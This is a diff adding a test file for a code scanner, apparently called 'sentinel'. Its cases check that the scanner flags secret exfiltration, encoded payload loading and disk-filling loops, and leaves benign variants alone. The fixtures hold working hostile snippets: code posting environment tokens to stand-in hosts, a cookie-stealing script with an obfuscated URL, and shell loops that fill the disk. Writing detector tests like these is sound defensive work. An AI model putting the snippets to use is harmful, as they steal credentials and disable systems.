@@ -1,0 +1,157 @@
+/**
+ * Sentinel, twenty-third pass (held-out sets h102–h105): each case a shape of the technique, with the twin that must
+ * stay quiet.
+ */
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { loud } from './helpers.ts';
+
+const same = (files: Record<string, string>, want: string[]): void => assert.deepEqual(loud(files), want);
+const POST = (body: string) => `requests.post("https://x.example.invalid/u", json=${body})`;
+
+test("flows: an object's own attribute set in one method and sent from another (Python self, JavaScript this)", () => {
+  const py = (name: string) =>
+    [
+      'import os, requests',
+      'class Context:',
+      '    def __init__(self):',
+      `        self.token = os.environ.get("${name}")`,
+      '    def as_dict(self):',
+      '        return {"token": self.token}',
+      'c = Context()',
+      POST('c.as_dict()'),
+      '',
+    ].join('\n');
+  same({ 'scripts/a.py': py('GITHUB_TOKEN') }, ['error sentinel/secret-exfiltration scripts/a.py:8']);
+  same({ 'scripts/a.py': py('LOG_LEVEL') }, []);
+  const js = (name: string) =>
+    [
+      'class Ctx {',
+      '  constructor() {',
+      `    this.token = process.env.${name};`,
+      '  }',
+      '  asDict() {',
+      '    return { token: this.token };',
+      '  }',
+      '}',
+      'const c = new Ctx();',
+      'fetch("https://x.example.invalid/u", { method: "POST", body: JSON.stringify(c.asDict()) });',
+      '',
+    ].join('\n');
+  same({ 'scripts/a.js': js('GITHUB_TOKEN') }, ['error sentinel/secret-exfiltration scripts/a.js:10']);
+  same({ 'scripts/a.js': js('LOG_LEVEL') }, []);
+  // (a client keeping its own key for its own API's authorization header: the use the key exists for)
+  same(
+    {
+      'scripts/a.py': [
+        'import os, requests',
+        'class Client:',
+        '    def __init__(self):',
+        '        self.token = os.environ["GITHUB_TOKEN"]',
+        '    def issues(self):',
+        '        return requests.get("https://api.github.com/issues", headers={"Authorization": "token " + self.token}).json()',
+        '',
+      ].join('\n'),
+    },
+    [],
+  );
+});
+
+test('flows: a parameter whose default value is the environment or a key, sent by the function', () => {
+  const py = (dflt: string) => `import os, requests\n\ndef report_usage(stats, extra=${dflt}):\n    ${POST('{"s": stats, "e": extra}')}\n`;
+  same({ 'scripts/a.py': py('dict(os.environ)') }, ['error sentinel/secret-exfiltration scripts/a.py:4']);
+  same({ 'scripts/a.py': py('os.environ.get("TZ", "UTC")') }, []);
+  const js = (dflt: string) =>
+    `async function reportUsage(stats, extra = ${dflt}) {\n  await fetch("https://x.example.invalid/u", { method: "POST", body: JSON.stringify({ s: stats, e: extra }) });\n}\nreportUsage({ n: 1 });\n`;
+  same({ 'scripts/a.js': js('{ ...process.env }') }, ['error sentinel/secret-exfiltration scripts/a.js:2']);
+  same({ 'scripts/a.js': js('{ tz: "UTC" }') }, []);
+});
+
+test('flows across files: a function or a module-level name of one script carries a secret, another imports it and sends it', () => {
+  const helper = 'import os\n\ndef snapshot():\n    return {k: v for k, v in os.environ.items()}\n';
+  same({ 'scripts/creds.py': helper, 'scripts/sync.py': `import requests\nfrom creds import snapshot\n\n${POST('snapshot()')}\n` }, [
+    'error sentinel/secret-exfiltration scripts/sync.py:4',
+  ]);
+  // (the module's member, bound first)
+  same({ 'scripts/creds.py': helper, 'scripts/sync.py': `import requests\nimport creds\n\nblob = creds.snapshot()\n${POST('blob')}\n` }, [
+    'error sentinel/secret-exfiltration scripts/sync.py:5',
+  ]);
+  // (a script that does not import it: another module's function of the same name)
+  same({ 'scripts/creds.py': helper, 'scripts/sync.py': `import requests\nfrom stats import snapshot\n\n${POST('snapshot()')}\n` }, []);
+  const settings = (key: string) => `import os\nSETTINGS = {"token": os.environ["${key}"], "level": 3}\n`;
+  const run = (host: string) => `import requests\nfrom settings import SETTINGS\nrequests.post("https://${host}/u", json=SETTINGS)\n`;
+  same({ 'scripts/settings.py': settings('GITHUB_TOKEN'), 'scripts/run.py': run('x.example.invalid') }, [
+    'error sentinel/secret-exfiltration scripts/run.py:3',
+  ]);
+  // (to the service that issued the key; a setting that is no secret)
+  same({ 'scripts/settings.py': settings('GITHUB_TOKEN'), 'scripts/run.py': run('api.github.com') }, []);
+  same({ 'scripts/settings.py': settings('TZ'), 'scripts/run.py': run('x.example.invalid') }, []);
+  const js = (key: string) => ({
+    'scripts/config.js': `export const config = { level: 2, auth: process.env.${key} };\n`,
+    'scripts/run.js': 'import { config } from "./config.js";\nawait fetch("https://x.example.invalid/u", { method: "POST", body: JSON.stringify(config) });\n',
+  });
+  same(js('NPM_TOKEN'), ['error sentinel/secret-exfiltration scripts/run.js:2']);
+  same(js('NODE_ENV'), []);
+  // (a key read by one module and used by another for its own API's authorization header)
+  same(
+    {
+      'scripts/auth.py': 'import os\n\ndef api_token():\n    return os.environ["ACME_API_TOKEN"]\n',
+      'scripts/client.py':
+        'import requests\nfrom auth import api_token\n\nr = requests.get("https://api.acme.example/v1/items", headers={"Authorization": f"Bearer {api_token()}"})\n',
+    },
+    [],
+  );
+});
+
+test('flows: a key put only into an HMAC or a hash signs what is sent; the key itself is not sent', () => {
+  const js = (sig: string) =>
+    [
+      'const crypto = require("crypto");',
+      'function publish(asset) {',
+      '  const nodeSecret = process.env.A2A_NODE_SECRET;',
+      `  const signature = ${sig};`,
+      '  return fetch("https://hub.example.invalid/publish", { method: "POST", body: JSON.stringify({ asset, signature }) });',
+      '}',
+      '',
+    ].join('\n');
+  same({ 'scripts/p.js': js('crypto.createHmac("sha256", nodeSecret).update(asset.id).digest("hex")') }, []);
+  same({ 'scripts/p.js': js('Buffer.from(nodeSecret).toString("base64")') }, ['error sentinel/secret-exfiltration scripts/p.js:5']);
+});
+
+test('encoded: an address spelled in base64 or character codes, where the code sends or loads from it', () => {
+  const js = (decl: string, decode: string) =>
+    `${decl}\nasync function forward(event) {\n  const url = ${decode}\n  await fetch(url, { method: "POST", body: JSON.stringify({ event }) })\n}\n`;
+  same({ 'scripts/t.js': js("const RB = ['aHR0cHM6Ly9ycy1taXJyb3IuZXZl', 'bnRzLmludmFsaWQvY29sbGVjdA==']", "atob(RB.join(''))") }, [
+    'error sentinel/encoded-exec scripts/t.js:1',
+  ]);
+  // (a base64 text that is no address; an address written plainly)
+  same({ 'scripts/t.js': js("const RB = ['aGVsbG8gd29y', 'bGQgYW5kIG1vcmU=']", "'https://api.example.com/' + atob(RB.join(''))") }, []);
+  same(
+    {
+      'page.html':
+        '<script>\nvar c = [104,116,116,112,115,58,47,47,99,100,110,46,115,101,103,109,101,110,116,45,116,97,103,115,46,105,110,118,97,108,105,100,47,97,46,106,115];\nvar s = document.createElement("script");\ns.src = String.fromCharCode.apply(null, c) + "?c=" + encodeURIComponent(document.cookie);\ndocument.head.appendChild(s);\n</script>\n',
+    },
+    ['error sentinel/encoded-exec page.html:2'],
+  );
+});
+
+test('disk: a loop whose condition is the write itself, or a piped write to a new name each round, fills the disk', () => {
+  const sh = (loop: string) => `#!/bin/bash\nD=/var/tmp/spool\ni=0\n${loop}\necho done\n`;
+  same(
+    {
+      'scripts/s.sh': sh(
+        'while fallocate -l 1G "$D/seg-$i.bin" 2>/dev/null \\\n    || dd if=/dev/zero of="$D/seg-$i.bin" bs=1M count=1024; do\n  i=$((i+1))\ndone',
+      ),
+    },
+    ['error sentinel/resource-flood scripts/s.sh:4'],
+  );
+  same({ 'scripts/s.sh': sh('until ! dd if=/dev/zero of="$D/blk.$i" bs=1m count=2048 2>/dev/null; do\n  i=$((i+1))\ndone') }, [
+    'error sentinel/resource-flood scripts/s.sh:4',
+  ]);
+  same({ 'scripts/s.sh': sh('while :; do\n  dd if=/dev/urandom bs=1M count=64 status=none | base64 > "$D/big-$i.b64"\n  i=$((i+1))\ndone') }, [
+    'error sentinel/resource-flood scripts/s.sh:4',
+  ]);
+  // (a bound beside the write; one fixed file rewritten)
+  same({ 'scripts/s.sh': sh('while fallocate -l 1G "$D/seg-$i.bin" && [ "$i" -lt 4 ]; do\n  i=$((i+1))\ndone') }, []);
+  same({ 'scripts/s.sh': sh('until ! dd if=/dev/zero of=/var/tmp/probe.bin bs=1m count=16 2>/dev/null; do\n  sleep 60\ndone') }, []);
+});
